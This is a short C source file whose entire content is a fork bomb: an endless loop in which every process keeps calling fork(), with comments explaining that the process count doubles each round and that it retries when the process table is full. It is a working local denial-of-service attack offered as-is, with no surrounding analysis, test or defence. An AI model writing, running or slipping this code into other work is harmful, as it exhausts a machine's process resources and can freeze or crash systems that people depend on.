// Forks as fast as it can, and so does every child: twice as many each time round.
#include <unistd.h>

int main() {
    for (;;)
        if (fork() < 0) usleep(1000);  // full: stay, and try again
}
